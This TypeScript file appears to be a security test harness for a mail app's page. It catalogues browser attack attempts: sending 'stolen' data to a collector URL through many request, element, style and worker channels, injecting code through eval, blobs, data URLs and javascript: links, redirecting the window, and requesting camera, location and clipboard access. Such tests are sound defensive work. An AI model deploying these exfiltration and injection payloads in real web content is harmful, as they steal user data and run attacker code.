/** What an attack is told: where stolen things are collected. */
export interface Loot {
  readonly url: string;
  readonly udpPort: number;
}

/** Runs in the page. Resolves once it has been tried; what became of it is seen elsewhere. */
export type Attack = (loot: Loot) => unknown;

/** Each tries to bring something out of the page by having it asked for. */
export const ASKING: Readonly<Record<string, Attack>> = {
  fetch: ({ url }) => fetch(`${url}/fetch`, { mode: 'no-cors' }),
  'a fetch that outlives the page': ({ url }) =>
    fetch(`${url}/keepalive`, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'stolen' }),
  'a request of the old kind': ({ url }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open('POST', `${url}/xhr`);
      request.send('stolen');
    }),
  'a beacon': ({ url }) => navigator.sendBeacon(`${url}/beacon`, 'stolen'),
  'a stream of events': ({ url }) =>
    new Promise((resolve) => {
      const stream = new EventSource(`${url}/events`);
      stream.onerror = resolve;
      stream.onopen = resolve;
    }),
  'a socket': ({ url }) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`${url.replace('http', 'ws')}/socket`);
      socket.onerror = resolve;
      socket.onopen = resolve;
    }),
  'an element that loads': ({ url }) => {
    const elements: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
      ['img', { src: `${url}/img` }],
      ['img', { srcset: `${url}/srcset 1x` }],
      ['video', { src: `${url}/video`, poster: `${url}/poster` }],
      ['audio', { src: `${url}/audio`, preload: 'auto' }],
      ['embed', { src: `${url}/embed` }],
      ['object', { data: `${url}/object` }],
      ['iframe', { src: `${url}/frame` }],
      ['iframe', { srcdoc: `<img src="${url}/srcdoc">` }],
      ['iframe', { src: `data:text/html,<img src="${url}/data-frame">` }],
      ['script', { src: `${url}/script` }],
      ['input', { type: 'image', src: `${url}/input` }],
      ...['stylesheet', 'icon', 'prefetch', 'prerender', 'modulepreload', 'manifest'].map(
        (rel) => ['link', { rel, href: `${url}/${rel}` }] as const,
      ),
      ...['script', 'style', 'image', 'font', 'fetch'].map(
        (as) => ['link', { rel: 'preload', as, href: `${url}/preload-${as}`, crossorigin: '' }] as const,
      ),
    ];
    return Promise.all(
      elements.map(
        ([name, attributes]) =>
          new Promise((resolve) => {
            const element = document.createElement(name);
            for (const event of ['load', 'error', 'loadstart']) element.addEventListener(event, resolve);
            document.addEventListener('securitypolicyviolation', resolve, { once: true });
            for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
            document.body.append(element);
          }),
      ),
    );
  },
  'a style sheet of the page': ({ url }) => {
    const [sheet] = document.styleSheets;
    sheet?.insertRule(`body { background: url(${url}/background) }`, 0);
    sheet?.insertRule(`@font-face { font-family: stolen; src: url(${url}/font) }`, 0);
    document.body.style.setProperty('border-image', `url(${url}/border)`);
    document.body.style.setProperty('font-family', 'stolen');
    return document.fonts.ready;
  },
  'code from elsewhere': ({ url }) => import(`${url}/module.js`),
  'a worker': ({ url }) => new Worker(`${url}/worker.js`),
  'a worker that stays': () => navigator.serviceWorker.register('./ui/icon.svg'),
  'a worklet': ({ url }) => new AudioContext().audioWorklet.addModule(`${url}/worklet.js`),
  'rules of speculation': ({ url }) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ urls: [`${url}/speculation`], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  'a form sent by GET': ({ url }) => {
    const form = document.createElement('form');
    form.action = `${url}/form-get`;
    document.body.append(form);
    form.submit();
  },
  'a form sent by POST into another window': ({ url }) => {
    const form = document.createElement('form');
    form.method = 'post';
    form.target = '_blank';
    form.action = `${url}/form-post`;
    document.body.append(form);
    form.submit();
  },
};

/** Each tries to run code that is not the app's own, which would set `owned`. */
export const RUNNING: Readonly<Record<string, Attack>> = {
  eval: () => Reflect.get(window, 'eval')('window.owned = true'),
  'a function of text': () => Reflect.construct(Function, ['window.owned = true'])(),
  'a timer of text': () => Reflect.apply(setTimeout, window, ['window.owned = true', 0]),
  'a script in the page': () => {
    const script = document.createElement('script');
    script.textContent = 'window.owned = true';
    document.head.append(script);
  },
  'a script from a blob': () =>
    import(URL.createObjectURL(new Blob(['window.owned = true'], { type: 'text/javascript' }))),
  'a script from a data address': () => import(['data:text/javascript', 'window.owned = true'].join()),
  'a frame of its own making': () => {
    for (const src of ['javascript:top.owned = true', 'data:text/html,<script>top.owned = true</script>']) {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
    }
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>top.owned = true</script>';
    document.body.append(frame);
  },
  'an attribute': () => {
    const holder = document.createElement('div');
    holder.innerHTML = '<b onclick="window.owned = true"></b><img src="x" onerror="window.owned = true">';
    document.body.append(holder);
    holder.querySelector('b')?.click();
  },
  'a link with a script': () => {
    const link = document.createElement('a');
    link.href = 'javascript:void (window.owned = true)';
    document.body.append(link);
    link.click();
  },
  'another base for all addresses': ({ url }) => {
    const base = document.createElement('base');
    base.href = url;
    document.head.append(base);
    if (document.baseURI.startsWith(url)) Reflect.set(window, 'owned', true);
  },
  'code of WebAssembly': () => {
    const empty = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
    Reflect.set(window, 'owned', new WebAssembly.Module(empty) instanceof WebAssembly.Module);
  },
  'a worker of text': () => {
    for (const address of ['data:text/javascript,', URL.createObjectURL(new Blob(['']))]) {
      const worker = new Worker(address);
      worker.onmessage = () => Reflect.set(window, 'owned', true);
    }
  },
};

/** Each tries to lead the window, or a new one, to the collector. */
export const LEAVING: Readonly<Record<string, Attack>> = {
  'an address': ({ url }) => location.assign(`${url}/assign`),
  'an address in the place of this one': ({ url }) => location.replace(`${url}/replace`),
  'an address of a script': () => location.assign('javascript:document.body.remove()'),
  'an address of data': () => location.assign('data:text/html,gone'),
  'a refresh in the head': ({ url }) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${url}/refresh`;
    document.head.append(meta);
  },
  'a link': ({ url }) => {
    const link = document.createElement('a');
    link.href = `${url}/link`;
    link.ping = `${url}/ping`;
    document.body.append(link);
    link.click();
  },
  'a link to a new window': ({ url }) => {
    const link = document.createElement('a');
    link.href = `${url}/blank`;
    link.target = '_blank';
    document.body.append(link);
    link.click();
  },
  'a new window': ({ url }) => window.open(`${url}/open`),
};

/**
 * Each asks for what no mail app needs; being refused is an error. What a person would be asked to choose is not here: the
 * browser host itself would ask.
 */
export const PERMISSIONS: Readonly<Record<string, Attack>> = {
  'the camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
  'the microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }),
  'where the person is': () =>
    new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  'what was copied': () => navigator.clipboard.readText(),
  'showing notifications': async () => {
    if ((await Notification.requestPermission()) !== 'granted') throw new Error('refused');
  },
  'musical instruments': () => navigator.requestMIDIAccess({ sysex: true }),
};
